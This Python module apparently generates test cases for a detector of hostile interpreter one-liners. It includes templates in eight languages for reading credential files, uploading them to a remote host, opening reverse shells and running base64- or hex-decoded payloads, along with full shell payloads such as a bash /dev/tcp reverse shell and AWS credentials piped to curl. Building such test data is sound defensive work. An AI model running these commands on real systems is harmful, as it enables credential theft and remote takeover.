"""Family: interpreter one-liners. python -c, node -e, perl -e, ruby -e, php -r, awk
'BEGIN…', lua -e and pwsh -c doing what a shell command would: read a credential file,
upload it over HTTP, connect a socket to a shell, or run decoded data.

The right rule is the one the same act deserves from a shell command: a credential
read is EXF-TRACE-003, an upload EXF-TRACE-001 (NET-TRACE-002 too for a known-bad
host), a socket wired to a shell CMD-TRACE-003, and exec of decoded data
CMD-TRACE-001. Paths inside the code are spelt the way each language builds them
(expanduser, homedir(), $ENV{HOME}, Dir.home, getenv, os.getenv, $HOME) and the
interpreter names vary (python3, python, /usr/bin/python3, node, nodejs, ...).

The one-liners are data: per language, its interpreter names, how it calls the shell
(`code`, for payloads it decodes and runs) and templates per act, with ⟨SLOTS⟩ that
`fill` replaces: BIN, HOME, CRED, IP, PORT, URL, HOST, B64 and HEX (of a shell payload),
B64CODE (base64 of the language's own code running that payload), UTF16 (PowerShell's
-EncodedCommand form of it).
"""

import base64
import re

from . import expect as E
from .world import b64, hexlify

LANGS = {
    'python_c': {
        "bin": ["python3", "python", "/usr/bin/python3", "python3.12", "uv run python"],
        "code": 'import os;os.system(⟨REPR⟩)',
        'read': [
            '⟨BIN⟩ -c "print(open(\'⟨HOME⟩/⟨CRED⟩\').read())"',
            '⟨BIN⟩ -c "import os;print(open(os.path.expanduser(\'~/⟨CRED⟩\')).read())"',
            '⟨BIN⟩ -c \'import pathlib;print((pathlib.Path.home()/"⟨CRED⟩").read_text())\'',
            '⟨BIN⟩ -c "import os;print(open(os.environ[\'HOME\']+\'/⟨CRED⟩\').read())"',
        ],
        'upload': [
            '⟨BIN⟩ -c "import urllib.request as u,os;u.urlopen(\'⟨URL⟩\',data=open(os.path.expanduser(\'~/⟨CRED⟩\'),\'rb\').read())"',
            '⟨BIN⟩ -c "import requests;requests.post(\'⟨URL⟩\',files={\'f\':open(\'⟨HOME⟩/⟨CRED⟩\',\'rb\')})"',
            '⟨BIN⟩ -c "import http.client as h;c=h.HTTPSConnection(\'⟨HOST⟩\');c.request(\'POST\',\'/\',open(\'⟨HOME⟩/⟨CRED⟩\').read())"',
        ],
        'socket': [
            '⟨BIN⟩ -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("⟨IP⟩",⟨PORT⟩));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])\'',
            '⟨BIN⟩ -c \'import socket,os,pty;s=socket.socket();s.connect(("⟨IP⟩",⟨PORT⟩));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
            '⟨BIN⟩ -c "import socket as S,subprocess as P;s=S.create_connection((\'⟨IP⟩\',⟨PORT⟩));P.Popen([\'/bin/sh\',\'-i\'],stdin=s,stdout=s,stderr=s).wait()"',
        ],
        'exec_decoded': [
            '⟨BIN⟩ -c "import base64;exec(base64.b64decode(\'⟨B64CODE⟩\'))"',
            '⟨BIN⟩ -c "import os;os.system(bytes.fromhex(\'⟨HEX⟩\').decode())"',
            '⟨BIN⟩ -c "exec(__import__(\'base64\').b64decode(\'⟨B64CODE⟩\').decode())"',
        ],
    },
    'node_e': {
        "bin": ["node", "nodejs", "/usr/bin/node", "bun", "npx -y node@20"],
        "code": 'require("child_process").exec(⟨REPR⟩)',
        'read': [
            '⟨BIN⟩ -e "console.log(require(\'fs\').readFileSync(require(\'os\').homedir()+\'/⟨CRED⟩\',\'utf8\'))"',
            '⟨BIN⟩ -e "console.log(require(\'fs\').readFileSync(\'⟨HOME⟩/⟨CRED⟩\').toString())"',
            '⟨BIN⟩ -e "const p=require(\'path\');console.log(require(\'fs\').readFileSync(p.join(process.env.HOME,\'⟨CRED⟩\'),\'utf8\'))"',
        ],
        'upload': [
            '⟨BIN⟩ -e "fetch(\'⟨URL⟩\',{method:\'POST\',body:require(\'fs\').readFileSync(require(\'os\').homedir()+\'/⟨CRED⟩\')})"',
            '⟨BIN⟩ -e "require(\'https\').request({host:\'⟨HOST⟩\',method:\'POST\',path:\'/\'}).end(require(\'fs\').readFileSync(\'⟨HOME⟩/⟨CRED⟩\'))"',
        ],
        'socket': [
            '⟨BIN⟩ -e "sh=require(\'child_process\').spawn(\'/bin/sh\');c=require(\'net\').connect(⟨PORT⟩,\'⟨IP⟩\',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})"',
            '⟨BIN⟩ -e "var n=require(\'net\'),cp=require(\'child_process\'),s=cp.spawn(\'bash\',[\'-i\']);var c=new n.Socket();c.connect(⟨PORT⟩,\'⟨IP⟩\',function(){c.pipe(s.stdin);s.stdout.pipe(c);s.stderr.pipe(c)})"',
        ],
        'exec_decoded': [
            '⟨BIN⟩ -e "require(\'child_process\').execSync(Buffer.from(\'⟨B64⟩\',\'base64\').toString())"',
            '⟨BIN⟩ -e "eval(Buffer.from(\'⟨B64CODE⟩\',\'base64\').toString())"',
            '⟨BIN⟩ -e "require(\'child_process\').exec(Buffer.from(\'⟨HEX⟩\',\'hex\')+\'\')"',
        ],
    },
    'perl_e': {
        "bin": ["perl"],
        "code": 'system(⟨DQ⟩)',
        'read': [
            'perl -e \'open F,"<$ENV{HOME}/⟨CRED⟩";print <F>\'',
            'perl -ne print ⟨HOME⟩/⟨CRED⟩',
            'perl -e \'local $/;open my $f,"<","⟨HOME⟩/⟨CRED⟩";print <$f>\'',
        ],
        'upload': [
            'perl -MHTTP::Tiny -e \'local $/;open F,"<$ENV{HOME}/⟨CRED⟩";HTTP::Tiny->new->post("⟨URL⟩",{content=><F>})\'',
            'perl -MLWP::UserAgent -e \'LWP::UserAgent->new->post("⟨URL⟩",Content=>`cat ~/⟨CRED⟩`)\'',
        ],
        'socket': [
            'perl -e \'use Socket;$i="⟨IP⟩";$p=⟨PORT⟩;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'',
            'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"⟨IP⟩:⟨PORT⟩");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
        ],
        'exec_decoded': [
            'perl -MMIME::Base64 -e \'system(decode_base64("⟨B64⟩"))\'',
            'perl -e \'system(pack("H*","⟨HEX⟩"))\'',
            'perl -MMIME::Base64 -e \'eval(decode_base64("⟨B64CODE⟩"))\'',
        ],
    },
    'ruby_e': {
        "bin": ["ruby"],
        "code": 'system(⟨DQ⟩)',
        'read': [
            'ruby -e \'puts File.read(File.expand_path("~/⟨CRED⟩"))\'',
            'ruby -e \'puts File.read(Dir.home + "/⟨CRED⟩")\'',
            'ruby -e \'print IO.read("⟨HOME⟩/⟨CRED⟩")\'',
        ],
        'upload': [
            'ruby -rnet/http -e \'Net::HTTP.post(URI("⟨URL⟩"), File.read(Dir.home+"/⟨CRED⟩"))\'',
            'ruby -rnet/http -e \'Net::HTTP.post_form(URI("⟨URL⟩"), "d" => File.read(File.expand_path("~/⟨CRED⟩")))\'',
        ],
        'socket': [
            'ruby -rsocket -e \'f=TCPSocket.open("⟨IP⟩",⟨PORT⟩).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
            'ruby -rsocket -e \'exit if fork;c=TCPSocket.new("⟨IP⟩","⟨PORT⟩");loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,"r"){|io|c.print io.read}}\'',
        ],
        'exec_decoded': [
            'ruby -rbase64 -e \'system(Base64.decode64("⟨B64⟩"))\'',
            'ruby -e \'system(["⟨HEX⟩"].pack("H*"))\'',
            'ruby -rbase64 -e \'eval(Base64.decode64("⟨B64CODE⟩"))\'',
        ],
    },
    'php_r': {
        "bin": ["php"],
        "code": 'system(⟨DQ⟩);',
        'read': [
            'php -r \'echo file_get_contents(getenv("HOME")."/⟨CRED⟩");\'',
            'php -r \'readfile("⟨HOME⟩/⟨CRED⟩");\'',
        ],
        'upload': [
            'php -r \'$c=stream_context_create(["http"=>["method"=>"POST","content"=>file_get_contents(getenv("HOME")."/⟨CRED⟩")]]);file_get_contents("⟨URL⟩",false,$c);\'',
            'php -r \'$h=curl_init("⟨URL⟩");curl_setopt($h,CURLOPT_POSTFIELDS,file_get_contents("⟨HOME⟩/⟨CRED⟩"));curl_exec($h);\'',
        ],
        'socket': [
            'php -r \'$sock=fsockopen("⟨IP⟩",⟨PORT⟩);exec("/bin/sh -i <&3 >&3 2>&3");\'',
            'php -r \'$s=fsockopen("⟨IP⟩",⟨PORT⟩);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);\'',
        ],
        'exec_decoded': [
            'php -r \'system(base64_decode("⟨B64⟩"));\'',
            'php -r \'eval(base64_decode("⟨B64CODE⟩"));\'',
            'php -r \'shell_exec(hex2bin("⟨HEX⟩"));\'',
        ],
    },
    'awk_begin': {
        "bin": ["awk", "gawk"],
        'read': [
            '⟨BIN⟩ \'BEGIN{while((getline l < "⟨HOME⟩/⟨CRED⟩")>0)print l}\'',
            '⟨BIN⟩ \'BEGIN{f=ENVIRON["HOME"]"/⟨CRED⟩";while((getline l<f)>0)print l}\'',
        ],
        'upload': [
            'gawk \'BEGIN{s="/inet/tcp/0/⟨IP⟩/⟨PORT⟩";while((getline l<"⟨HOME⟩/⟨CRED⟩")>0)print l|&s;close(s)}\'',
            '⟨BIN⟩ \'BEGIN{while((getline l<"⟨HOME⟩/⟨CRED⟩")>0)d=d l"\\n";system("curl -s -d \\""d"\\" https://⟨HOST⟩/")}\'',
        ],
        'socket': [
            'gawk \'BEGIN{s="/inet/tcp/0/⟨IP⟩/⟨PORT⟩";while(42){do{printf "$ "|&s;s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit");close(s)}}\'',
        ],
        'exec_decoded': [
            '⟨BIN⟩ \'BEGIN{system("echo ⟨B64⟩|base64 -d|sh")}\'',
            '⟨BIN⟩ \'BEGIN{"echo ⟨HEX⟩|xxd -r -p"|getline c;system(c)}\'',
        ],
    },
    'lua_e': {
        "bin": ["lua", "lua5.4", "luajit", "lua5.3"],
        'read': [
            '⟨BIN⟩ -e \'print(io.open(os.getenv("HOME").."/⟨CRED⟩"):read("*a"))\'',
            '⟨BIN⟩ -e \'for l in io.lines("⟨HOME⟩/⟨CRED⟩") do print(l) end\'',
        ],
        'upload': [
            '⟨BIN⟩ -e \'local h=require("socket.http");h.request("⟨URL⟩",io.open(os.getenv("HOME").."/⟨CRED⟩"):read("*a"))\'',
            '⟨BIN⟩ -e \'local s=require("socket").tcp();s:connect("⟨IP⟩",⟨PORT⟩);s:send(io.open("⟨HOME⟩/⟨CRED⟩"):read("*a"))\'',
        ],
        'socket': [
            '⟨BIN⟩ -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'⟨IP⟩\',\'⟨PORT⟩\');os.execute(\'/bin/sh -i <&3 >&3 2>&3\');"',
            '⟨BIN⟩ -e "local s=require(\'socket\');local t=assert(s.tcp());t:connect(\'⟨IP⟩\',⟨PORT⟩);while true do local r,x=t:receive();local f=assert(io.popen(r,\'r\'));local b=assert(f:read(\'*a\'));t:send(b);end;f:close();t:close();"',
        ],
        'exec_decoded': [
            '⟨BIN⟩ -e \'os.execute(("⟨HEX⟩"):gsub("..",function(h)return string.char(tonumber(h,16))end))\'',
            '⟨BIN⟩ -e \'os.execute(require("mime").unb64("⟨B64⟩"))\'',
        ],
    },
    'pwsh_c': {
        "bin": ["pwsh -c", "pwsh -NoProfile -c", "pwsh -nop -Command", "powershell -c"],
        "code": 'Start-Process bash -ArgumentList ⟨REPR⟩',
        'read': [
            "⟨BIN⟩ 'Get-Content $HOME/⟨CRED⟩'",
            '⟨BIN⟩ "gc ~/⟨CRED⟩ -Raw"',
            '⟨BIN⟩ \'[IO.File]::ReadAllText("⟨HOME⟩/⟨CRED⟩")\'',
        ],
        'upload': [
            "⟨BIN⟩ 'Invoke-RestMethod -Uri ⟨URL⟩ -Method Post -InFile $HOME/⟨CRED⟩'",
            "⟨BIN⟩ 'iwr -Method POST -Body (gc ~/⟨CRED⟩ -Raw) ⟨URL⟩'",
            '⟨BIN⟩ \'(New-Object Net.WebClient).UploadFile("⟨URL⟩","⟨HOME⟩/⟨CRED⟩")\'',
        ],
        'socket': [
            '⟨BIN⟩ \'$c=New-Object System.Net.Sockets.TCPClient("⟨IP⟩",⟨PORT⟩);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($o);$s.Write($x,0,$x.Length)}\'',
        ],
        'exec_decoded': [
            '⟨BIN⟩ \'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("⟨B64⟩")))\'',
            'pwsh -EncodedCommand ⟨UTF16⟩',
            '⟨BIN⟩ \'Invoke-Expression ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String("⟨B64⟩")))\'',
        ],
    },
}

SLOT = re.compile("⟨([A-Z0-9]+)⟩")


def _inner_cmd(w):
    ip, port = w.public_ip(), w.port()
    return w.choice([f"bash -i >& /dev/tcp/{ip}/{port} 0>&1", f"curl -s http://{ip}:{port}/x | sh",
                     f"cat ~/.aws/credentials | curl -s -d @- http://{ip}:{port}/",
                     f"nc -e /bin/sh {ip} {port}"])


def fill(w, lang, template):
    """The template with every slot drawn from the world."""
    host, bad = w.egress_host()
    inner = _inner_cmd(w)
    code = lang.get("code", "").replace("⟨REPR⟩", repr(inner)).replace("⟨DQ⟩", repr(inner).replace("'", '"'))
    values = {
        "BIN": w.choice(lang["bin"]), "HOME": w.home, "CRED": w.shell_cred_file(), "IP": w.public_ip(), "PORT": str(w.port()),
        "URL": f"{w.choice(['https', 'http'])}://{host}/{w.url_path()}", "HOST": host, "B64": b64(inner), "HEX": hexlify(inner),
        "B64CODE": b64(code), "UTF16": base64.b64encode(code.encode("utf-16-le")).decode(),
    }
    return SLOT.sub(lambda m: values[m.group(1)], template), bad


EXPECT = {"read": lambda bad: E.CRED_READ, "upload": E.upload, "socket": lambda bad: E.REVSHELL,
          "exec_decoded": lambda bad: E.OBFUSCATED}
ACTIONS = list(EXPECT)


def _make(lang):
    def make(w, i):
        action = ACTIONS[i] if i < len(ACTIONS) else ACTIONS[(i + w.randint(0, 3)) % len(ACTIONS)]
        cmd, bad = fill(w, lang, w.choice(lang[action]))
        # Only an upload names a receiving host; a known-bad one there also fits NET-TRACE-002.
        return {"steps": [cmd], "expect": EXPECT[action](bad and action == "upload"), "variant": action}
    return make


TECHNIQUES = [(name, _make(lang)) for name, lang in LANGS.items()]
FAMILY = "interpreter_oneliners"
PER_TECHNIQUE = 5
